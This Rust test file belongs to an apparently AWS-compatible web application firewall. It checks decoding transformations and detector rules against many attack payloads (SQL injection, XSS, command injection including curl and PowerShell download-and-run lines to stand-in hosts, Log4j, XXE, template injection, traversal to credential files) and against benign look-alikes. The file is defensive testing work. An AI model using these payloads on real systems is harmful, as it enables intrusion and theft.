//! Data-driven checks of the public API, one table per area: text transformations, match
//! statements (through a one-rule WebACL), and the default WebACL's detectors per family and
//! per place a value arrives (with the benign look-alikes each detector must pass).

use std::net::{IpAddr, Ipv4Addr};
use std::time::Instant;

use nuvem_waf::{Request, Transformation as T, WebAcl, apply_transformations};

#[track_caller]
fn check_transform(list: &[T], input: &str, want: &str) {
    let got = apply_transformations(list, input.as_bytes());
    assert_eq!(String::from_utf8_lossy(&got), want, "{list:?} on {input:?}");
}

#[test]
fn text_transformations() {
    check_transform(&[T::None], "A%20b", "A%20b");
    check_transform(&[T::UrlDecode], "a%20b+c%3C", "a b c<");
    check_transform(&[T::UrlDecode, T::UrlDecode], "%253Cx", "<x");
    check_transform(&[T::UrlDecodeUni], "%u003cx%3e", "<x>");
    check_transform(&[T::HtmlEntityDecode], "&lt;a&#62;&#x3c;&quot;", "<a><\"");
    check_transform(&[T::Lowercase], "SeLeCt", "select");
    check_transform(&[T::CompressWhiteSpace], "a \t\n  b", "a b");
    // CMD_LINE also deletes spaces before a slash (AWS's definition).
    check_transform(&[T::CmdLine], "C^a\"T  /E'tc", "cat/etc");
    check_transform(&[T::Base64Decode], "PHNjcmlwdD4=", "<script>");
    check_transform(&[T::HexDecode], "3c7363726970743e", "<script>");
    check_transform(&[T::JsDecode], "\\x3cscript\\u003e", "<script>");
    check_transform(&[T::CssDecode], "\\6a avascript", "javascript");
    check_transform(&[T::RemoveNulls], "a\0b", "ab");
    check_transform(&[T::NormalizePath], "/a/./b/../c//d", "/a/c/d");
    check_transform(&[T::NormalizePathWin], "\\a\\..\\b", "/b");
    // Back-references at the beginning stay in a relative path, go in an absolute one.
    check_transform(&[T::NormalizePath], "a/../../b/./c", "../b/c");
    check_transform(&[T::NormalizePath], "/../../etc//passwd", "/etc/passwd");
    check_transform(&[T::NormalizePathWin], "..\\..\\win.ini", "../../win.ini");
    // URL_DECODE_UNI: full-width ASCII folds to ASCII, any other %u keeps its lower byte.
    check_transform(&[T::UrlDecodeUni], "%uff0e%uFF0F%u0041", "./A");
    check_transform(&[T::UrlDecodeUni], "a%u2215b", "a\u{15}b");
    check_transform(&[T::Utf8ToUnicode], "a\u{2215}b\u{e9}", "a%u2215b%u00e9");
    // Order matters: each transformation feeds the next.
    check_transform(&[T::UrlDecode, T::Lowercase], "%53ELECT", "select");
    check_transform(&[T::Lowercase, T::UrlDecode], "%53ELECT", "Select");
}

fn request<'a>(
    method: &'a str,
    path: &'a str,
    query: &'a str,
    headers: &'a [(&'a str, &'a [u8])],
    body: &'a [u8],
) -> Request<'a> {
    Request {
        method,
        path,
        query,
        headers,
        body,
        body_oversize: false,
        client_ip: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9)),
        at: Instant::now(),
    }
}

fn one_rule(statement: &str) -> WebAcl {
    let json = format!(
        r#"{{"Name":"t","DefaultAction":{{"Allow":{{}}}},"Rules":[{{"Name":"r","Priority":1,
        "Action":{{"Block":{{}}}},"Statement":{statement},
        "VisibilityConfig":{{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":false,"MetricName":"r"}}}}]}}"#
    );
    WebAcl::from_json(&json).unwrap_or_else(|e| panic!("{statement}: {e}"))
}

/// A statement and whether it blocks GET `/p?<query>` with header `X-T: <header>`.
#[track_caller]
fn check_statement(statement: &str, query: &str, header: &str, blocked: bool) {
    let acl = one_rule(statement);
    let headers: [(&str, &[u8]); 2] = [("User-Agent", b"t"), ("X-T", header.as_bytes())];
    let verdict = acl.evaluate(&request("GET", "/p", query, &headers, b""));
    assert_eq!(verdict.is_blocked(), blocked, "{statement} on {query:?}");
}

const TX: &str = r#""TextTransformations":[{"Priority":0,"Type":"URL_DECODE"}]"#;

#[test]
fn statements() {
    let byte = |pos: &str, s: &str| {
        format!(
            r#"{{"ByteMatchStatement":{{"SearchString":"{s}","FieldToMatch":{{"QueryString":{{}}}},{TX},"PositionalConstraint":"{pos}"}}}}"#
        )
    };
    check_statement(&byte("CONTAINS", "evil"), "a=xevilx", "", true);
    check_statement(&byte("CONTAINS", "evil"), "a=good", "", false);
    check_statement(&byte("EXACTLY", "a=1"), "a=1", "", true);
    check_statement(&byte("EXACTLY", "a=1"), "a=12", "", false);
    check_statement(&byte("STARTS_WITH", "a="), "a=1", "", true);
    check_statement(&byte("ENDS_WITH", "=1"), "a=1", "", true);
    check_statement(&byte("CONTAINS_WORD", "cat"), "a=the%20cat%20sat", "", true);
    check_statement(&byte("CONTAINS_WORD", "cat"), "a=concatenate", "", false);
    let regex = format!(
        r#"{{"RegexMatchStatement":{{"RegexString":"^a=\\d+$","FieldToMatch":{{"QueryString":{{}}}},{TX}}}}}"#
    );
    check_statement(&regex, "a=123", "", true);
    check_statement(&regex, "a=12x", "", false);
    let sqli =
        format!(r#"{{"SqliMatchStatement":{{"FieldToMatch":{{"AllQueryArguments":{{}}}},{TX}}}}}"#);
    check_statement(&sqli, "q=1%27%20or%20%271%27=%271", "", true);
    check_statement(&sqli, "q=O%27Brien", "", false);
    let xss = format!(
        r#"{{"XssMatchStatement":{{"FieldToMatch":{{"SingleHeader":{{"Name":"x-t"}}}},{TX}}}}}"#
    );
    check_statement(&xss, "", "<script>alert(1)</script>", true);
    check_statement(&xss, "", "a < b > c", false);
    let size = format!(
        r#"{{"SizeConstraintStatement":{{"FieldToMatch":{{"QueryString":{{}}}},"ComparisonOperator":"GT","Size":5,{TX}}}}}"#
    );
    check_statement(&size, "a=1234", "", true);
    check_statement(&size, "a=12", "", false);
    let not = format!(r#"{{"NotStatement":{{"Statement":{size}}}}}"#);
    check_statement(&not, "a=12", "", true);
    check_statement(&not, "a=1234", "", false);
    let and = format!(
        r#"{{"AndStatement":{{"Statements":[{size},{}]}}}}"#,
        byte("CONTAINS", "9")
    );
    check_statement(&and, "a=9999", "", true);
    check_statement(&and, "a=1111", "", false);
    let or = format!(
        r#"{{"OrStatement":{{"Statements":[{},{}]}}}}"#,
        byte("CONTAINS", "x"),
        byte("CONTAINS", "y")
    );
    check_statement(&or, "a=y", "", true);
    check_statement(&or, "a=z", "", false);
    let ip = r#"{"IPSetReferenceStatement":{"ARN":"arn:aws:wafv2:us-east-1:000000000000:global/ipset/x/1"}}"#;
    let _ = ip; // IP sets need Resources: covered by tests/engine.rs through from_json_with.
}

/// Where a value is placed in a request.
#[derive(Clone, Copy, Debug)]
enum Place {
    Query,
    Form,
    Json,
    Cookie,
    Header,
    Path,
}

/// The rule that blocked `value` in `place`, or None when it passed.
fn blocked_at(acl: &WebAcl, place: Place, value: &str) -> Option<String> {
    let enc: String = value
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    let mut headers: Vec<(&str, Vec<u8>)> = vec![
        ("Host", b"shop.example.com".to_vec()),
        ("User-Agent", b"Mozilla/5.0".to_vec()),
    ];
    let (mut method, mut path, mut query, mut body) =
        ("GET", "/".to_string(), String::new(), Vec::new());
    match place {
        Place::Query => query = format!("q={enc}"),
        Place::Form => {
            method = "POST";
            headers.push((
                "Content-Type",
                b"application/x-www-form-urlencoded".to_vec(),
            ));
            body = format!("q={enc}").into_bytes();
        }
        Place::Json => {
            method = "POST";
            headers.push(("Content-Type", b"application/json".to_vec()));
            body = serde_json::json!({ "q": value }).to_string().into_bytes();
        }
        Place::Cookie => headers.push(("Cookie", format!("q={enc}").into_bytes())),
        Place::Header => headers.push(("X-Note", value.as_bytes().to_vec())),
        Place::Path => path = format!("/items/{enc}"),
    }
    let hs: Vec<(&str, &[u8])> = headers.iter().map(|(n, v)| (*n, v.as_slice())).collect();
    let verdict = acl.evaluate(&request(method, &path, &query, &hs, &body));
    verdict.is_blocked().then_some(verdict.terminating_rule)
}

const PLACES: [Place; 6] = [
    Place::Query,
    Place::Form,
    Place::Json,
    Place::Cookie,
    Place::Header,
    Place::Path,
];

/// A value is blocked (or passed) in every place.
#[track_caller]
fn check_detect(value: &str, blocked: bool) {
    check_detect_at(value, &PLACES, blocked);
}

/// A value is blocked (or passed) in each of `places`.
#[track_caller]
fn check_detect_at(value: &str, places: &[Place], blocked: bool) {
    let acl = WebAcl::default_for_distribution();
    for &place in places {
        let rule = blocked_at(&acl, place, value);
        assert_eq!(rule.is_some(), blocked, "{value:?} in {place:?}: {rule:?}");
    }
}

#[test]
fn detectors_per_family_in_every_place() {
    // SQL injection (libinjection and extended patterns).
    check_detect("1' OR '1'='1", true);
    check_detect("1 UNION SELECT username, password FROM users", true);
    check_detect("x' AND SLEEP(5)-- ", true);
    check_detect("concat(0x7e,version())", true);
    check_detect("{\"$where\": \"sleep(100)\"}", true);
    check_detect("|| c == '", true); // chained condition
    check_detect("&&(e===", true);
    check_detect("AND uid!=(", true);
    check_detect("x'|email--", true); // quote, operator, trailing comment
    check_detect("admin@juice-sh.op' and email ilike email--", true);
    check_detect("'{\"a\":\"b\"}' ? 'a'", true); // JSON operator
    check_detect("IN/**/(", true); // call left open
    check_detect("length||(", true);
    check_detect("1='1' or-- -", true);
    check_detect(") AS 'total' FROM", true);
    check_detect("var= ( SELECT", true);
    check_detect("in (0,1)", true);
    check_detect("`>65", true); // probe that closes a literal
    check_detect("'', '', 13", true);
    // XSS.
    check_detect("<script>alert(1)</script>", true);
    check_detect("<img src=x onerror=alert(1)>", true);
    check_detect("javascript:alert(document.cookie)", true);
    check_detect("<v:vmlframe src=\"x\"/>", true);
    check_detect("ja&tab;vascript:alert(1)", true);
    check_detect("window[\"alert\"](1)", true);
    check_detect("(document)[\"cookie\"]", true);
    check_detect("<f o r m action=x>", true);
    check_detect("+ADw-script+AD4-alert(1)", true);
    check_detect("x:url(javascript:alert(1))", true);
    // Command injection, unix and windows.
    check_detect("; cat /etc/passwd", true);
    check_detect("| nohup whoami", true);
    check_detect("$(curl http://x.example/a.sh)", true);
    check_detect("IF EXIST data.xls echo found", true);
    check_detect("FOR %G IN (a,b) DO md C:\\demo\\%G", true);
    check_detect("() { :; }; /bin/bash -c id", true);
    check_detect("www.example.com;c$@at /et$@c/pas$@swd", true);
    check_detect("/???/??t /e??/p??s??", true);
    check_detect("{,ifconfig,eth0}", true);
    check_detect("cat<<<ifconfig | sh", true);
    check_detect("time sh -c whoami", true);
    check_detect("alias a=c${KK}url&a evil.example", true);
    check_detect("a=/etc&&b=/passwd&&c=cat&&$c $a$b", true);
    check_detect("1;.system id", true);
    check_detect("FOR %_ IN (a,b,c) DO cmd", true);
    // PHP, Java, Node.js, template injection, Log4j, XXE.
    check_detect("<?php system($_GET['c']); ?>", true);
    check_detect("$f['x'](17)", true);
    check_detect(
        "php://filter/convert.base64-encode/resource=index.php",
        true,
    );
    check_detect("java.lang.Runtime.getRuntime().exec('id')", true);
    check_detect(
        "org.apache.commons.collections.functors.InvokerTransformer",
        true,
    );
    check_detect("aW52b2tlcnRyYW5zZm9ybWVy", true); // base64 of invokertransformer
    check_detect("require('child_process').exec('id')", true);
    // PHP evasions: comments before `(`, callable strings, variable functions, php.ini.
    check_detect("checkdate/*x*/()", true);
    check_detect("(\"system\")(\"whoami\")", true);
    check_detect("(string)\"sys\".\"tem\" ('uname');", true);
    check_detect("$__[$_[1]](7)", true);
    check_detect("filegroup  (blah)", true);
    check_detect("FOOgzinflate()", true);
    check_detect("opcache.jit_max_polymorphic_calls=50", true);
    check_detect("{php}echo 1;{/php}", true);
    // Node.js: module overwrite, console through call, busy loops, prototype paths.
    check_detect("module.exports=", true);
    check_detect("console.info.call(this,1)", true);
    check_detect("while(-Infinity);", true);
    check_detect("a[constructor][prototype]=1", true);
    // Java: `runtime` in base64 (ten characters), a serialized stream's base64 magic.
    check_detect("cnVudGltZQ", true);
    check_detect("KztAAU", true);
    check_detect("{{7*7}}", true);
    check_detect("${jndi:ldap://evil.example/a}", true);
    check_detect(
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        true,
    );
    // Traversal, RFI, SSRF.
    check_detect("../../../../etc/passwd", true);
    check_detect("http://169.254.169.254/latest/meta-data/", true);
    check_detect("http://[::1]/admin", true);
    check_detect("http://host.docker.internal/", true);
    check_detect("/app/.claude/settings.local.json", true);
    check_detect("/proc/sys/kernel/randomize_va_space", true);
    check_detect("..;/..;/admin", true);
    check_detect("http://0xA9.0xFE.0xA9.0xFE/", true);
    check_detect("http://169.254.43518/", true);
    check_detect("acap://①②⑦.⓪.⓪.①", true);
    check_detect("http://localhost4.localdomain4/", true);
    check_detect("data:text/plain;base64,SSBsb3ZlIFBIUAo=", true);

    // Look-alikes that ordinary users send.
    for benign in [
        "O'Brien",
        "I'd like to select the blue one",
        "Please select a file from your computer",
        "Drop me a line",
        "Delete my account please",
        "Create a new playlist",
        "Who knows what happens next",
        "time to go home",
        "Watch the video (2 min)",
        "Duration in day(s)",
        "Copy (2 pages) of the contract",
        "Price: ${price}",
        "Tom & Jerry",
        "x > 5 and y < 10",
        "ana.silva@example.com",
        "Version 2 (beta)",
        "runtime of the film: 2h",
        "Docker is great for local development",
        "echo on the walls",
        "If not sure, leave blank",
        "dual citizenship",
        "hello; time he came",
        "Java | Python | Ruby",
        "Tom & Jerry | Cat & Mouse",
        "Choose {a,b} or {c,d}",
        "I earned $500 & spent $200; cash left $300",
        "He said `hello` to me",
        "the sys/class list",
        "uname",
        "Forgot my password :(",
        "Sign in (optional)",
        "In (2019, 2020) we moved twice",
        "He said 'no' and left",
        "x == y || y == z in the proof",
        "if (x) then y",
        "(0752)-260749",
        "Weekday (Mon-Fri) only",
        "Our database (MySQL) is down again",
        "\"Union Square\" station",
        "The operating system (OS) needs an update",
        "Prices include (VAT) and shipping",
        "These items require (at minimum) a signature",
        "It depends on the runtime.",
        "A new function (beta) was added",
        "I bought $AAPL (Apple).",
        "see section 5(a)(1) of the contract",
        "http://01.org/",
        "$dax(cw7sp4lqtb",
        "localhost",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    ] {
        check_detect(benign, false);
    }
}

/// A session identifier set through the URL from another site is fixation; the same name from
/// the site itself, or an ordinary argument from elsewhere, is not.
#[test]
fn session_fixation_and_uploads() {
    let acl = WebAcl::default_for_distribution();
    #[track_caller]
    fn check(acl: &WebAcl, query: &str, referer: &str, blocked: bool) {
        let headers: [(&str, &[u8]); 3] = [
            ("Host", b"shop.example.com"),
            ("User-Agent", b"Mozilla/5.0"),
            ("Referer", referer.as_bytes()),
        ];
        let v = acl.evaluate(&request("GET", "/login", query, &headers, b""));
        assert_eq!(v.is_blocked(), blocked, "{query} from {referer}");
    }
    check(&acl, "PHPSESSID=abc123", "https://evil.example.net/", true);
    check(&acl, "jsessionid=abc123", "https://attacker.test/x", true);
    check(
        &acl,
        "laravel_session=eyJpdiI6",
        "http://phish.example.org/",
        true,
    );
    check(
        &acl,
        "PHPSESSID=abc123",
        "https://www.example.com/cart",
        false,
    );
    check(&acl, "page=2", "https://evil.example.net/", false);

    #[track_caller]
    fn upload(acl: &WebAcl, name: &str, blocked: bool) {
        let headers: [(&str, &[u8]); 2] = [("User-Agent", b"t"), ("X-Filename", name.as_bytes())];
        let v = acl.evaluate(&request("PUT", "/upload", "", &headers, b""));
        assert_eq!(v.is_blocked(), blocked, "{name}");
    }
    upload(&acl, "shell.php", true);
    upload(&acl, "a.phtml...", true);
    upload(&acl, "sess_abcdef0123456789", true);
    upload(&acl, "holiday.jpg", false);
    upload(&acl, "report.pdf", false);
}

/// Part two of the detectors (issue 22), one technique at a time, each with the ordinary text
/// that looks like it, in the places its rules inspect.
#[test]
fn detectors_for_encodings_windows_files_scripts_and_injections() {
    use Place::{Cookie, Form, Header, Json, Path, Query};
    // Traversal with dots and slashes in unusual encodings, alone or mixed with plain ones:
    // overlong UTF-8, IIS %u with full-width and look-alike code points, nested
    // percent-encoding (the values below are sent percent-encoded once more).
    for attack in [
        "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/hosts",
        "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc/passwd",
        "..%c1%9c..%c1%9cboot.ini",
        "..%c1%1c..%c1%1c..%c1%1cetc/passwd",
        "..%uEFC8..%uEFC8boot.ini",
        "%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc/passwd",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/windows/win.ini",
        "%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66etc/passwd",
        "%u002e%u002e%u2215%u002e%u002e%u2215boot.ini",
        "%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini",
        "\u{ff0e}\u{ff0e}\u{ff0f}\u{ff0e}\u{ff0e}\u{ff0f}etc\u{ff0f}passwd",
        "..\u{2215}..\u{2215}..\u{2215}etc\u{2215}shadow",
        "..%5c..%5c..%5cwindows%5cwin.ini",
        "<img src=\"../../../../etc/passwd\">",
        "/etc/./passwd",
        "/etc/.%2fshadow",
        "c:\\windows\\.\\system32\\config\\sam",
    ] {
        check_detect(attack, true);
    }
    // Relative links in pasted markup and Markdown, and non-ASCII text.
    for benign in [
        "<a href=\"../\">up one level</a>",
        "<p>See <a href='../../guide/'>the guide</a> and <a href=../../../faq.html>the FAQ</a></p>",
        "See [the parent page](../) for details",
        "東京\u{ff0f}大阪\u{ff0e}京都",
        "café déjà vu, naïve façade",
        "１／２ cup of sugar",
    ] {
        check_detect(benign, false);
    }

    // Windows command injection: cmd.exe built-ins on drive paths, system tools with switches,
    // PowerShell one-liners.
    for attack in [
        "dir c:\\",
        "| dir c:\\",
        "& type C:\\Windows\\win.ini",
        "ping.exe -n 3 127.0.0.1",
        "& net user",
        "&& whoami /all",
        "cmd /c whoami",
        "cmd.exe /k ver",
        "powershell -enc SQBFAFgAKABOAGUAdwA=",
        "powershell -nop -w hidden -c calc",
        "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
        "Invoke-Expression $payload",
        "iwr -Uri http://evil.example/a -OutFile a.exe",
        "[System.Convert]::FromBase64String($s)",
        "echo $env:TEMP",
    ] {
        check_detect(attack, true);
    }
    for benign in [
        "dir",
        "type",
        "Type your message here",
        "saved to C:\\Users\\ana\\Documents\\report.docx",
        "Is notepad.exe safe to delete?",
        "ping me when you are free",
        "net user guide for beginners",
        "I use PowerShell at work",
        "Start a process for returns",
    ] {
        check_detect(benign, false);
    }

    // Sensitive files asked for by name, in the path and in values.
    for attack in [
        "/etc/shadow",
        "boot.ini",
        "C:\\boot.ini",
        "c:\\inetpub\\wwwroot\\web.config",
        "web.config",
        ".git/config",
        ".env",
        ".htpasswd",
        "~/.ssh/id_rsa",
        ".aws/credentials",
        "wp-config.php.bak",
        "/root/.bash_history",
        "config.php~",
        "WEB-INF/web.xml",
    ] {
        check_detect(attack, true);
    }
    // A path that ends in `.config` is a request for such a file (RestrictedExtensions_URIPATH).
    check_detect_at(
        "how to write a web.config",
        &[Query, Form, Json, Cookie, Place::Header],
        false,
    );
    for benign in [
        "environment.html",
        ".env file format",
        "edit your .htaccess file",
        "boot.ini is a file on old Windows",
        "my id is 42",
    ] {
        check_detect(benign, false);
    }

    // Script execution without a tag, and markup hidden in HTML entities.
    for attack in [
        "confirm.call(null,1)",
        "alert.apply(null,[1])",
        "(alert)(1)",
        "(0,eval)('alert(1)')",
        "alert?.(1)",
        "alert/**/(1)",
        "top['al'+'ert'](1)",
        "window['ev'+'al']('x')",
        "self[/al/.source+/ert/.source](1)",
        "[].constructor.constructor('alert(1)')()",
        "x['constructor']['constructor']('alert(1)')()",
        "location='javascript:alert(1)'",
        "&#x6A;avascript&colon;alert(1)",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;svg onload=alert(1)&#62;",
    ] {
        check_detect(attack, true);
    }
    for benign in [
        "I like alert systems and confirm my order",
        "Object.keys(x).map(f)",
        "fn.call(this, 1)",
        "levels (alert) (warning) and (info)",
        "obj['first'] + obj['last']",
        "The constructor of the class takes two arguments",
        "location = Lisbon",
        "Use &lt;b&gt; for bold",
    ] {
        check_detect(benign, false);
    }

    // CR/LF header injection, in every place a value arrives.
    for attack in [
        "\r\nSet-Cookie: session=attacker",
        "x\r\nLocation: http://evil.example/",
        "%0d%0aSet-Cookie:%20a=b",
        "x\n\nHTTP/1.1 200 OK",
        "\u{560a}\u{560d}Set-Cookie: a=b",
    ] {
        check_detect(attack, true);
    }
    for benign in [
        "Line one\nline two",
        "Set-Cookie is a response header",
        "Location: Lisbon",
    ] {
        check_detect(benign, false);
    }
    // In the query and the path, where a line break has no business, a break before a header
    // name is enough, whatever the value (CRS 921160); a textarea's lines (posted as a form or
    // JSON) may name a place.
    for attack in [
        "\nSet-Cookie: injected",
        "x\r\rSet-Cookie: no-cache",
        "\r\nLocation: Lisbon",
        "a\nX-Forwarded-For: 127.0.0.1",
        "\rContent-Type: text/html",
    ] {
        check_detect_at(attack, &[Query, Path], true);
    }
    check_detect_at(
        "Hello,\r\nLocation: Lisbon\r\nThanks",
        &[Form, Json, Cookie, Header],
        false,
    );

    // LDAP and NoSQL injection: in the query, form, JSON body and cookies.
    let args = [Query, Form, Json, Cookie];
    for attack in [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectclass=*)",
        "x)(|(password=*)",
        "{\"$ne\": null}",
        "{\"$regex\": \".*\"}",
        "{\"$where\": \"sleep(1000)\"}",
        "db.users.find({})",
    ] {
        check_detect_at(attack, &args, true);
    }
    for benign in [
        "see section 5(a)(1) of the contract",
        "Mr. Smith (CEO)(retired)",
        "$5 off (today only)",
        "{\"$schema\": \"http://json-schema.org/draft-07/schema#\"}",
        "price > $gt",
    ] {
        check_detect_at(benign, &args, false);
    }
}

/// MongoDB operators as argument names and JSON keys, and the names that are no operators.
#[test]
fn nosql_operators_in_names() {
    let acl = WebAcl::default_for_distribution();
    #[track_caller]
    fn check(acl: &WebAcl, query: &str, json: &str, blocked: bool) {
        let ua: &[(&str, &[u8])] = &[("User-Agent", b"Mozilla/5.0")];
        if !query.is_empty() {
            let v = acl.evaluate(&request("GET", "/login", query, ua, b""));
            assert_eq!(v.is_blocked(), blocked, "{query}");
        }
        if !json.is_empty() {
            let headers: &[(&str, &[u8])] = &[
                ("User-Agent", b"Mozilla/5.0"),
                ("Content-Type", b"application/json"),
            ];
            let v = acl.evaluate(&request("POST", "/login", "", headers, json.as_bytes()));
            assert_eq!(v.is_blocked(), blocked, "{json}");
        }
    }
    check(&acl, "user[$ne]=x&pass[$ne]=x", "", true);
    check(&acl, "user%5B%24gt%5D=", "", true);
    check(&acl, "a[$regex]=.*", "", true);
    check(
        &acl,
        "",
        r#"{"user": {"$ne": null}, "pass": {"$ne": null}}"#,
        true,
    );
    check(
        &acl,
        "",
        r#"{"user": "admin", "pass": {"$regex": "^a"}}"#,
        true,
    );
    check(&acl, "", r#"{"$where": "this.password.length > 0"}"#, true);
    check(&acl, "user[name]=ana&page[size]=20", "", false);
    check(
        &acl,
        "",
        r#"{"$schema": "x", "$id": "y", "price": {"amount": 5, "currency": "$"}}"#,
        false,
    );
}

/// Attack tools that name themselves in the User-Agent are blocked (`UserAgent_BadBots_HEADER`),
/// a request without one too (`NoUserAgent_HEADER`); browsers, libraries and crawlers pass.
#[test]
fn user_agents() {
    let acl = WebAcl::default_for_distribution();
    #[track_caller]
    fn check(acl: &WebAcl, ua: Option<&str>, rule: Option<&str>) {
        let mut headers: Vec<(&str, &[u8])> = vec![("Host", b"shop.example.com")];
        if let Some(ua) = ua {
            headers.push(("User-Agent", ua.as_bytes()));
        }
        let v = acl.evaluate(&request("GET", "/", "", &headers, b""));
        match rule {
            Some(rule) => assert!(
                v.is_blocked() && v.terminating_rule.ends_with(rule),
                "{ua:?}: {}",
                v.terminating_rule
            ),
            None => assert!(!v.is_blocked(), "{ua:?}: {}", v.terminating_rule),
        }
    }
    for tool in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Fuzz Faster U Fool v2.1.0",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "gobuster/3.6",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1) Havij",
        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Acunetix-Product",
        "OpenVAS-VT 22.4",
    ] {
        check(&acl, Some(tool), Some("UserAgent_BadBots_HEADER"));
    }
    check(&acl, None, Some("NoUserAgent_HEADER"));
    for ordinary in [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "urlgrabber/3.10 yum/3.4.3",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "aws-sdk-rust/1.3.0 os/linux lang/rust/1.95.0",
        "Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1 lang/python#3.11",
    ] {
        check(&acl, Some(ordinary), None);
    }
}

/// Search boxes, prose and pasted markup that share an injection's first step (a quote and an
/// operator, a quote and a comment, a code span, a function-looking word, a scheme-looking
/// title) pass the default WebACL; injections of the same shape with a second signal (a
/// comparison, a literal closed after a word, a statement after `;`) stay blocked.
#[test]
fn sqli_and_xss_text_shapes() {
    for benign in [
        "\"SWEATER DRESS\" AND \"CHRISTMAS\"",
        "\"LIKE\" STAMP",
        "\"OR\" PICTURE FRAME",
        "\"drop earrings\" or \"like\"",
        "DRESS WITH HAT 18';",
        "crochet hook with nail polish 14'--",
        "phone case with silk scarf 13'*",
        "D'or 1st parfume",
        "L'or 2nd edition",
        "7\" #2 CIRCULAR NEEDLE",
        "35% COTTON AND 65% POLYESTER",
        "26% polyester and 93% silk",
        "1,1--",
        "3,4-- BOOKCASE",
        "User(login_name),Images(id)",
        "`DELETE`",
        "The `Date` header",
        "with `max-age` and `Expires`",
        "\"Select\" your country",
        "cats and dogs like food",
        "0x71C7656EC7ab88b098defB751B7401B5f6d8976F",
        "JavaScript: The Good Parts",
        "Javascript: the definitive guide",
        "<span style=\"color: olive\">Paper message</span>",
        "<img src=\"images/sort.png\" alt=\"A sorted list\" width=\"218\">",
    ] {
        check_detect(benign, false);
    }
    for attack in [
        "admin'--",
        "1' OR '1'='1",
        "\" or \"\"=\"",
        "admin\" or \"1\"=\"1",
        "1 AND 1=1",
        "' or 1=1#",
        "admin'or 1=1",
        "1' and 'a' like 'a",
        "1';DROP TABLE users--",
        "x' AND SLEEP(5)-- ",
        "' union select 1,2--",
        "1) or (1=1",
        "'; exec xp_cmdshell 'dir'--",
        "javascript:alert(1)",
        "javascript: alert(document.cookie)",
        "JaVaScRiPt:void(0)",
        "java\tscript:alert(1)",
        "<span style=\"background: url(javascript:alert(1))\">x</span>",
        "<div style=\"width: expression(alert(1))\">",
        "<img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        // Command substitution: a lower-case command in backticks is still one.
        "`whoami`",
        "name=`cat /etc/passwd`",
    ] {
        check_detect(attack, true);
    }
}

/// SqliMatchStatement's SensitivityLevel: LOW (the default) grades libinjection as the managed
/// rules do; HIGH also matches the weak shapes and the extended patterns.
#[test]
fn sqli_sensitivity_levels() {
    let stmt = |level: &str| {
        let level = if level.is_empty() {
            String::new()
        } else {
            format!(r#","SensitivityLevel":"{level}""#)
        };
        format!(
            r#"{{"SqliMatchStatement":{{"FieldToMatch":{{"AllQueryArguments":{{}}}},{TX}{level}}}}}"#
        )
    };
    for (query, low, high) in [
        ("q=1%27%20OR%20%271%27=%271", true, true),
        ("q=admin%27--", true, true),
        ("q=%22LIKE%22%20STAMP", false, true),
        ("q=35%25%20COTTON%20AND%2065%25%20POLYESTER", false, true),
        ("q=User(login_name),Images(id)", false, true),
        ("q=benchmark(1000000,md5(1))", true, true),
        ("q=O%27Brien", false, false),
        ("q=cheap%20flights", false, false),
    ] {
        check_statement(&stmt(""), query, "", low);
        check_statement(&stmt("LOW"), query, "", low);
        check_statement(&stmt("HIGH"), query, "", high);
    }
}

/// Template injection, PHP, shell commands, file inclusion and web shells are told from the
/// code, prose and markup that look like them by technique: an attack makes a template evaluate
/// something, calls PHP's functions as PHP, runs a command after a separator, names a system
/// file where a path starts, or hands a request parameter to an API that runs it.
#[test]
fn code_and_os_attacks_by_technique() {
    for attack in [
        // Template injection: arithmetic on literals, object internals, engine internals.
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{7*'7'}}",
        "{{7|times:7}}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        "{{['id']|filter('system')}}",
        "{{{'a':'id'}.a|filter('system')}}",
        "{{'id'|system}}",
        "{$smarty.version}",
        "${requestScope}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
